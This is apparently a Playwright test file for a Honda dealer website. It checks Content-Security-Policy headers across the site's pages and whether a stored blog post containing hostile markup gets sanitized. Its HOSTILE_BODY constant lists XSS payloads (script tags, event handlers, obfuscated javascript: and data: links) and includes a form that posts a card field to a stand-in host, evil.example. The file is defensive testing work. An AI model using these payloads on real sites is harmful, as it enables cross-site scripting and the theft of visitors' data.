import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { expect, type Page, test } from "@playwright/test";
import { openDatabase } from "../../db/client.ts";
import { blogPosts } from "../../db/schema.ts";
import { seedDatabase } from "../../seed/seed.ts";
import { type AppProcess, startAppProcess } from "../support/app-process.ts";
import { hydrated } from "./support/page-checks.ts";

/**
 * Every kind of page is served with a Content-Security-Policy and runs without a single violation,
 * and a blog post stored with hostile HTML runs none of it.
 */

/** Collects CSP violations and CSP console errors from the first script on; read with `violations()`. */
async function watchForViolations(page: Page): Promise<() => Promise<string[]>> {
  const consoleErrors: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy|Content-Security-Policy/i.test(message.text())) consoleErrors.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) =>
      seen.push(
        `${event.violatedDirective} blocked ${event.blockedURI || "inline"} (${event.sourceFile}:${event.lineNumber})`,
      ),
    );
  });
  return async () => [
    ...(await page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations)),
    ...consoleErrors,
  ];
}

/**
 * The page has hydrated and every script, style and image the document asked for has loaded (its scripts
 * load after the load event, so hydration comes last). Not "networkidle": a busy machine can keep it from ever settling.
 */
async function loadedAndHydrated(page: Page) {
  await page.waitForLoadState("load");
  await hydrated(page);
}

async function firstHref(page: Page, url: string, selector: string): Promise<string> {
  await page.goto(url);
  const href = await page.locator(selector).first().getAttribute("href");
  if (!href) throw new Error(`no ${selector} on ${url}`);
  return href;
}

test.describe("the Content-Security-Policy on every kind of page", () => {
  const fixedPages = [
    "/",
    "/new",
    "/used",
    "/finance",
    "/blog",
    "/dealer",
    "/contact",
    "/popia",
    "/dealer/honda-sandton",
    "/dealer/honda-sandton/used",
    "/service",
  ];

  for (const url of fixedPages) {
    test(`${url} is served with a nonce policy and reports no violation`, async ({ page }) => {
      await expectCleanPage(page, url);
    });
  }

  test("a model page, a used vehicle and a blog post report no violation", async ({ page }) => {
    const model = await firstHref(page, "/new", 'main a[href^="/new/honda/"]');
    await page.goto("/used");
    const vehicle = await page.evaluate(
      () =>
        [...document.querySelectorAll<HTMLAnchorElement>('main a[href^="/used/"]')]
          .map((a) => a.getAttribute("href")!)
          .find((href) => href.split("/").length === 5)!,
    );
    const post = await firstHref(page, "/blog", 'main a[href^="/blog/"]');
    for (const url of [model, vehicle, post]) await expectCleanPage(page, url);
  });

  test("client-side navigation between pages reports no violation", async ({ page }) => {
    const violations = await watchForViolations(page);
    await page.goto("/");
    await loadedAndHydrated(page);
    for (const href of ["/blog", "/dealer", "/used"]) {
      await page.evaluate(
        (target) => document.querySelector<HTMLAnchorElement>(`header a[href="${target}"]`)?.click(),
        href,
      );
      // The router changes the URL once the new page's module and data have loaded and it has rendered.
      await expect(page).toHaveURL(new RegExp(`${href}$`));
    }
    expect(await violations()).toEqual([]);
  });
});

async function expectCleanPage(page: Page, url: string) {
  const violations = await watchForViolations(page);
  const response = await page.goto(url);
  expect(response?.status(), url).toBe(200);
  const csp = (await response!.allHeaders())["content-security-policy"] ?? "";
  expect(csp, url).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+'/);
  expect(csp).toContain("frame-ancestors 'none'");
  await loadedAndHydrated(page);
  expect(await violations(), url).toEqual([]);
}

test.describe("a blog post stored with hostile HTML", () => {
  // Its own server on its own embedded database, so that the post can be stored before the site opens it.
  test.describe.configure({ mode: "serial" });
  let app: AppProcess;
  let dataDir: string;
  const slug = "hostile-markup";

  test.beforeAll(async () => {
    test.setTimeout(120_000);
    dataDir = await fs.mkdtemp(path.join(os.tmpdir(), "honda-xss-"));
    const database = await openDatabase({ dataDir });
    await database.migrate();
    await seedDatabase(database.db, { usedCount: 12 });
    const [sample] = await database.db.select({ imageUri: blogPosts.imageUri }).from(blogPosts).limit(1);
    await database.db.insert(blogPosts).values({
      slug,
      title: "A post with hostile markup",
      description: "Stored XSS attempts",
      publishDate: "2026-01-15",
      imageUri: sample!.imageUri,
      author: "Mallory",
      body: HOSTILE_BODY,
      metaTitle: "A post with hostile markup",
      metaDescription: "Stored XSS attempts",
    });
    await database.close();
    app = await startAppProcess({ DATA_DIR: dataDir, DATABASE_URL: "", LEAD_DELIVERY: "off" }, 90_000);
  });
  test.afterAll(async () => {
    await app?.stop();
    await fs.rm(dataDir, { recursive: true, force: true });
  });

  test("runs none of it: no script, no event handler, no javascript: link", async ({ page }) => {
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const violations = await watchForViolations(page);
    const response = await page.goto(`${app.baseUrl}/blog/${slug}`);
    expect(response?.status()).toBe(200);
    await loadedAndHydrated(page);

    const body = page.locator("article .prose-site");
    await expect(body).toContainText("The safe paragraph stays.");
    await expect(body.getByRole("link", { name: "A safe link" })).toHaveAttribute("href", "https://www.honda.co.za/");
    // The hostile links keep their words and lose their target.
    for (const name of ["Win a car", "Mixed case", "Encoded", "Data URL"]) {
      await expect(body.getByText(name)).toBeVisible();
      expect(await body.getByText(name).getAttribute("href"), name).toBeNull();
    }
    expect(await body.locator("script, iframe, object, embed, style, svg, form, button, input").count()).toBe(0);
    expect(await body.locator("[onerror], [onload], [onclick], [onmouseover], [style], [formaction]").count()).toBe(0);
    expect(await body.locator('[href^="javascript:" i], [src^="javascript:" i], [href^="data:" i]').count()).toBe(0);

    // Try what a visitor could trigger, then look for any sign that hostile code ran.
    await body.getByText("Win a car").click();
    await body.getByText("Hover or click me").hover();
    await body.getByText("Hover or click me").click();
    await page.waitForLoadState("networkidle");
    expect(page.url()).toBe(`${app.baseUrl}/blog/${slug}`);
    expect(await page.evaluate(() => (window as unknown as { xss?: string }).xss)).toBeUndefined();
    expect(await page.evaluate(() => document.title)).not.toContain("pwned");
    expect(dialogs).toEqual([]);
    expect(await violations()).toEqual([]);
  });
});

const HOSTILE_BODY = `
<p>The safe paragraph stays.</p>
<script>window.xss = "script"; alert("script");</script>
<img src="/no-such-picture.png" alt="broken" onerror="window.xss = 'onerror'; alert('onerror')">
<img src="x" onload="window.xss = 'onload'">
<p><a href="javascript:window.xss='link';alert('link')">Win a car</a></p>
<p><a href="JaVaScRiPt:alert('mixed')">Mixed case</a></p>
<p><a href="&#106;avascript:alert('encoded')">Encoded</a></p>
<p><a href="data:text/html,<script>alert('data')</script>">Data URL</a></p>
<p onclick="window.xss='click'" onmouseover="window.xss='hover'">Hover or click me</p>
<svg onload="window.xss='svg'"><script>window.xss='svg script'</script></svg>
<iframe src="javascript:alert('frame')"></iframe>
<object data="javascript:alert('object')"></object>
<style>body { display: none }</style>
<p style="background:url(javascript:alert('style'))">Styled</p>
<form action="https://evil.example/steal"><button formaction="javascript:alert('form')">Go</button><input name="card"></form>
<p><a href="https://www.honda.co.za/">A safe link</a></p>
<script>document.title = "pwned"</script>
`;
